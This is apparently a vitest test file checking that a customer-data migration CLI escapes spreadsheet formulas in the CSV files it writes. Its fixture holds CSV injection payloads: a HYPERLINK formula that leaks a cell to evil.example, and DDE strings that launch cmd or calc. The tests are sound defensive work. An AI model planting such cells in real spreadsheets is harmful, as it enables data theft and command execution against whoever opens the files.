import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runInProcess, tempProject } from './test-io.js';

/** A file source whose records would run as formulas in a spreadsheet. */
const CSV = [
  'code,name,phone,category',
  '"=A1",Normal Ltd,+86 10 1234 5678,-5',
  'C002,Twin Ltd,010-1234,A',
  'C002,"=HYPERLINK(""http://evil.example/?""&A1,""x"")","+1+cmd|\' /C calc\'!A0",@SUM(',
  'C003,-2+3+cmd|x,,',
].join('\n');

let project: ReturnType<typeof tempProject>;
beforeAll(() => {
  project = tempProject({ sources: { crm: { erp: 'file', path: './crm.csv', columns: { code: 'code', name: 'name', phone: 'phone', category: 'category' } } } });
  project.write('crm.csv', CSV);
});
afterAll(() => project.cleanup());
const run = (args: string[]) => runInProcess(args, { cwd: project.directory });
const cells = (name: string) => parse(readFileSync(join(project.directory, name), 'utf8'), { bom: true, relax_column_count: true }) as string[][];

describe('CSV files written by the CLI escape formulas', () => {
  it('export: by default, and verbatim with --no-escape-formulas', async () => {
    expect((await run(['export', 'crm', '--out', 'safe.csv', '--fields', 'code,name,phone,category'])).exitCode).toBe(0);
    expect(cells('safe.csv').slice(1)).toEqual([
      ["'=A1", 'Normal Ltd', '+86 10 1234 5678', '-5'],
      ['C002', 'Twin Ltd', '010-1234', 'A'],
      ['C002', `'=HYPERLINK("http://evil.example/?"&A1,"x")`, "'+1+cmd|' /C calc'!A0", "'@SUM("],
      ['C003', "'-2+3+cmd|x", '', ''],
    ]);
    expect((await run(['export', 'crm', '--out', 'raw.csv', '--fields', 'code,name', '--no-escape-formulas'])).exitCode).toBe(0);
    expect(cells('raw.csv')[1]).toEqual(['=A1', 'Normal Ltd']);
  });

  it('migrate: the crosswalk and import files, and a re-run reads the escaped crosswalk back to the same codes', async () => {
    const first = await run(['migrate', 'crm', '--rule', 'KH{seq:3}', '--out', 'migration', '--layout', 'k3cloud', '--json']);
    expect(first.exitCode).toBeLessThan(2);
    const crosswalk = cells('migration/crosswalk.csv');
    expect(crosswalk.find((row) => row[0] === "'=A1")).toBeDefined();
    expect(crosswalk.find((row) => row[0] === 'C003')).toContain("'-2+3+cmd|x");
    const imported = cells('migration/k3cloud-BD_Customer.csv');
    expect(imported.flat()).toContain("'-2+3+cmd|x");
    expect(imported.flat()).toContain('+86 10 1234 5678');
    const again = await run(['migrate', 'crm', '--rule', 'KH{seq:3}', '--out', 'migration', '--layout', 'k3cloud', '--json']);
    expect(JSON.parse(again.stdout)).toMatchObject({ carriedOver: JSON.parse(first.stdout).rows, decidedNow: 0 });
    expect(cells('migration/crosswalk.csv')).toEqual(crosswalk);
  });

  it('audit --fix-plan: the duplicate to recode carries the hostile name', async () => {
    const hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"x")';
    expect((await run(['audit', 'crm', '--fix-plan', 'plan.csv'])).exitCode).toBe(0);
    expect(cells('plan.csv').flat()).toContain(`'${hyperlink}`);
    expect((await run(['audit', 'crm', '--fix-plan', 'plan-raw.csv', '--no-escape-formulas'])).exitCode).toBe(0);
    expect(cells('plan-raw.csv').flat()).toContain(hyperlink);
  });
});
